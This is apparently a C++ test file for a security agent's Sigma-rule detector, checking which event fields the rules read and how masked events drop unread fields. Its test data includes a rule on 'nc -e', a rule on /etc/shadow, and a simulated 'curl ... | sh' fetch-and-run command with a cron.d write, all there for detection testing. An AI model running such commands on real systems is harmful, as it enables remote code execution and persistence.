// Which event fields the loaded rules read (Detector::fields_read), and events limited to
// them (SigmaEvent::limit_to, event_from_message with a mask): what is left out is only
// what no rule and no trust check looks at.
#include <vigil/sdk.hpp>

#include "behavior_sigma/event_builder.hpp"
#include "sigma_test_util.hpp"

using namespace sigma_test;
using vigil::behavior::sigma::FieldMask;
using vigil::behavior::sigma::TrustedProgram;

namespace {

FieldMask mask(std::initializer_list<FieldId> fields) {
    FieldMask m;
    for (auto f : fields) m.set(static_cast<std::size_t>(f));
    return m;
}

FieldMask read_for(const Detector& d, Category c) { return d.fields_read()[static_cast<std::size_t>(c)]; }

Detector detector_of(std::initializer_list<std::pair<const char*, const char*>> rules) {
    Detector d;
    int n = 0;
    for (const auto& [detection, category] : rules) {
        std::string id = "f0000000-0000-0000-0000-00000000000" + std::to_string(++n);
        auto err = d.add_rule(rule_yaml(detection, category, id), "t");
        INFO("rule error: " << err.value_or("none"));
        REQUIRE_FALSE(err);
    }
    return d;
}

}  // namespace

TEST_CASE("behavior_sigma_fields: each category reads the fields of the rules evaluated for it") {
    auto d = detector_of({
        {"    sel:\n        TargetFilename|endswith: '/x'\n    filter:\n        Image: '/bin/cp'\n"
         "    condition: sel and not filter\n",
         "file_event"},
        {"    sel:\n        SourceFilename|startswith: '/tmp/'\n    condition: sel\n", "file_rename"},
        {"    sel:\n        CommandLine|contains: 'nc -e'\n        User|exists: true\n    condition: sel\n",
         "process_creation"},
    });
    CHECK(read_for(d, Category::FileEvent) == mask({FieldId::TargetFilename, FieldId::Image}));
    // A rename is checked against file_event rules too.
    CHECK(read_for(d, Category::FileRename) ==
          mask({FieldId::TargetFilename, FieldId::Image, FieldId::SourceFilename}));
    CHECK(read_for(d, Category::ProcessCreation) == mask({FieldId::CommandLine, FieldId::User}));
    CHECK(read_for(d, Category::FileDelete).none());
    CHECK(read_for(d, Category::NetworkConnection).none());
}

TEST_CASE("behavior_sigma_fields: keyword searches read every field, fieldref both, trust Image and ParentImage") {
    auto keyword = detector_of({{"    keywords:\n        - 'evil'\n    condition: keywords\n", "file_delete"}});
    CHECK(read_for(keyword, Category::FileDelete).all());
    CHECK(read_for(keyword, Category::FileEvent).none());

    auto ref = detector_of({{"    sel:\n        ParentImage|fieldref: Image\n    condition: sel\n", "process_creation"}});
    CHECK(read_for(ref, Category::ProcessCreation) == mask({FieldId::ParentImage, FieldId::Image}));

    auto trusted = detector_of({{"    sel:\n        TargetFilename: '/etc/shadow'\n    condition: sel\n", "file_event"}});
    trusted.set_trusted({TrustedProgram{"/usr/sbin/*", false}});
    CHECK(read_for(trusted, Category::FileEvent) ==
          mask({FieldId::TargetFilename, FieldId::Image, FieldId::ParentImage}));
    CHECK(read_for(trusted, Category::NetworkConnection) == mask({FieldId::Image, FieldId::ParentImage}));
}

TEST_CASE("behavior_sigma_fields: an event limited to a mask keeps only those fields") {
    SigmaEvent e(Category::FileEvent);
    e.limit_to(mask({FieldId::TargetFilename}));
    e.set(FieldId::TargetFilename, "/etc/passwd");
    e.set(FieldId::CommandLine, "tee /etc/passwd");
    CHECK(e.lookup(FieldId::TargetFilename) == "/etc/passwd");
    CHECK_FALSE(e.has(FieldId::CommandLine));
    CHECK(e.wants(FieldId::TargetFilename));
    CHECK_FALSE(e.wants(FieldId::CommandLine));

    vigil::ProcessInfo p{.flags = VIGIL_PROC_FLAG_KNOWN, .pid = 77, .ppid = 1, .uid = 1000};
    p.exe = "/usr/bin/tee";
    p.cmdline = "tee /etc/cron.d/x";
    p.parent_exe = "/bin/bash";
    p.sha256 = "ab12";
    vigil::PayloadBuilder<vigil_file_event> b;
    b.set_process(&vigil_file_event::process, p);
    b.head().action = VIGIL_FILE_MODIFY;
    b.head().path = b.add("/etc/cron.d/x");
    vigil::behavior::sigma::FieldsByCategory wanted{};
    wanted[static_cast<std::size_t>(Category::FileEvent)] = mask({FieldId::TargetFilename, FieldId::Image});
    auto limited = vigil::behavior::sigma::event_from_message(VIGIL_TYPE_FILE, b.data(), b.size(), &wanted);
    auto full = vigil::behavior::sigma::event_from_message(VIGIL_TYPE_FILE, b.data(), b.size());
    REQUIRE(limited);
    REQUIRE(full);
    CHECK(limited->lookup(FieldId::TargetFilename) == "/etc/cron.d/x");
    CHECK(limited->lookup(FieldId::Image) == "/usr/bin/tee");
    // Present in the full event, left out of the limited one.
    for (auto f : {FieldId::CommandLine, FieldId::ParentImage, FieldId::ProcessId, FieldId::ParentProcessId,
                   FieldId::Hashes, FieldId::User}) {
        CAPTURE(vigil::behavior::sigma::field_name(f));
        CHECK(full->has(f));
        CHECK_FALSE(limited->has(f));
    }
}

TEST_CASE("behavior_sigma_fields: one event refilled message after message keeps nothing of the one before") {
    vigil::ProcessInfo p{.flags = VIGIL_PROC_FLAG_KNOWN, .pid = 9, .ppid = 1, .uid = 0};
    p.exe = "/usr/bin/bash";
    p.cmdline = "bash -c 'curl http://198.51.100.7/x | sh'";
    vigil::PayloadBuilder<vigil_process_event> start;
    start.set_process(&vigil_process_event::process, p);
    vigil::PayloadBuilder<vigil_file_event> rename;
    rename.set_process(&vigil_file_event::process, p);
    rename.head().action = VIGIL_FILE_RENAME;
    rename.head().path = rename.add("/tmp/.x");
    rename.head().new_path = rename.add("/etc/cron.d/x");
    vigil::PayloadBuilder<vigil_file_event> chmod;
    chmod.head().action = VIGIL_FILE_CHMOD;
    vigil::behavior::sigma::FieldsByCategory wanted{};
    wanted[static_cast<std::size_t>(Category::FileRename)] = mask({FieldId::TargetFilename});

    SigmaEvent ev(Category::FileAccess);
    using vigil::behavior::sigma::event_into;
    REQUIRE(event_into(ev, VIGIL_TYPE_PROCESS_START, start.data(), start.size()));
    CHECK(ev.category() == Category::ProcessCreation);
    CHECK(ev.lookup(FieldId::CommandLine) == p.cmdline);
    REQUIRE(event_into(ev, VIGIL_TYPE_FILE, rename.data(), rename.size(), &wanted));
    CHECK(ev.category() == Category::FileRename);
    CHECK(ev.lookup(FieldId::TargetFilename) == "/etc/cron.d/x");
    for (auto f : {FieldId::CommandLine, FieldId::Image, FieldId::SourceFilename, FieldId::ProcessId}) {
        CAPTURE(vigil::behavior::sigma::field_name(f));
        CHECK_FALSE(ev.has(f));
    }
    // Without a mask every field is wanted again.
    REQUIRE(event_into(ev, VIGIL_TYPE_FILE, rename.data(), rename.size()));
    CHECK(ev.lookup(FieldId::SourceFilename) == "/tmp/.x");
    CHECK(ev.lookup(FieldId::Image) == "/usr/bin/bash");
    CHECK_FALSE(event_into(ev, VIGIL_TYPE_FILE, chmod.data(), chmod.size()));
    CHECK_FALSE(event_into(ev, VIGIL_TYPE_THREAT, start.data(), start.size()));
}
